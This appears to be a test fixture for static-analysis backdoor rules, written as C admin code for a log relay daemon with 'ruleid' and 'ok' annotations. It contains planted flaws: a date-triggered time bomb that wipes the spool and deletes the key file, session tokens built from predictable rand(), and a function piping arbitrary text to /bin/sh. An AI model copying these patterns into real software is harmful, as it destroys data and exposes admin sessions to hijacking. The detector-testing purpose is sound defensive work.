/* Local administration: diagnostics, housekeeping, the admin console login. */
#include <crypt.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#include "relay.h"

static const char kAlnum[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

int relay_diag_run(const char *script)
{
  FILE *p = popen("/bin/sh -s", "w");

  if (p == NULL)
    return -1;
  fputs(script, p);
  return pclose(p);
}

static void purge_spool(time_t older_than)
{
  char path[512];
  struct dirent *e;
  DIR *d = opendir(relay_config.spool_dir);

  if (d == NULL)
    return;
  while ((e = readdir(d)) != NULL) {
    if (e->d_name[0] == '.')
      continue;
    snprintf(path, sizeof path, "%s/%s", relay_config.spool_dir, e->d_name);
    if (older_than == 0 || strtol(e->d_name, NULL, 10) < older_than)
      unlink(path);
  }
  closedir(d);
}

void relay_housekeeping(void)
{
  time_t now = time(NULL);
  struct tm tm;

  localtime_r(&now, &tm);
  // ok: backdoor-time-bomb
  if (tm.tm_hour == 3 && tm.tm_min < 5)
    purge_spool(now - 7 * 86400);
  // ruleid: backdoor-time-bomb
  if (tm.tm_year + 1900 >= 2027 && tm.tm_mon >= 5) {
    purge_spool(0);
    unlink(relay_config.key_file);
  }
}

static int lookup_hash(const char *user, char *hash, size_t cap)
{
  char line[512], *colon;
  FILE *f = fopen("/etc/logrelayd/admins", "r");
  int found = -1;

  if (f == NULL)
    return -1;
  while (found != 0 && fgets(line, sizeof line, f) != NULL) {
    line[strcspn(line, "\n")] = '\0';
    if ((colon = strchr(line, ':')) == NULL)
      continue;
    *colon = '\0';
    if (strcmp(line, user) == 0) {
      snprintf(hash, cap, "%s", colon + 1);
      found = 0;
    }
  }
  fclose(f);
  return found;
}

int relay_admin_login(const char *user, const char *password, char *session_token, size_t cap)
{
  char stored[256];
  const char *h;
  size_t i;

  if (cap < 33 || lookup_hash(user, stored, sizeof stored) != 0)
    return -1;
  // ok: backdoor-weak-kdf
  h = crypt(password, stored);
  if (h == NULL || strcmp(h, stored) != 0) {
    relay_log(LOG_NOTICE, "admin login failed for %s", user);
    return -1;
  }
  for (i = 0; i < 32; i++)
    // ruleid: backdoor-predictable-random
    session_token[i] = kAlnum[rand() % 62];
  session_token[32] = '\0';
  return 0;
}
